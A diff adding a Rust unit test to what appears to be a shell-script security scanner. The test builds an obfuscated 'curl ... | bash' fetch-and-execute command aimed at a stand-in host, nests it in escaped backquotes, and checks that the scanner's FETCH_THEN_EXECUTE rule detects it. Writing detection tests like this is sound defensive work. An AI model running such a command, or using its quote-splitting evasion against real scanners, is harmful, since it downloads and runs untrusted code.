@@ -2660,6 +2660,23 @@ mod tests {
     }
 
     #[test]
+    fn nested_backquotes_are_read_as_the_shell_reads_them() {
+        // Each level escapes the backquotes (and backslashes) of the one inside.
+        let mut cmd = "c''url -s https://x.example/a | ba''sh".to_owned();
+        for _ in 0..4 {
+            let escaped = cmd.replace('\\', "\\\\").replace('`', "\\`");
+            cmd = format!("echo `{escaped}`");
+        }
+        let t = format!("x={}\n", &cmd["echo ".len()..]);
+        assert!(has(&t, FETCH_THEN_EXECUTE), "{t}: {:?}", rules(&t));
+        assert_eq!(
+            shell::parse("x=`echo hi`\n").unwrap().commands.len(),
+            1,
+            "an ordinary substitution is read once"
+        );
+    }
+
+    #[test]
     fn deep_groupings_parse_in_linear_time() {
         for (open, close) in [("(", ")"), ("echo $(", ")")] {
             let n = 200_000;
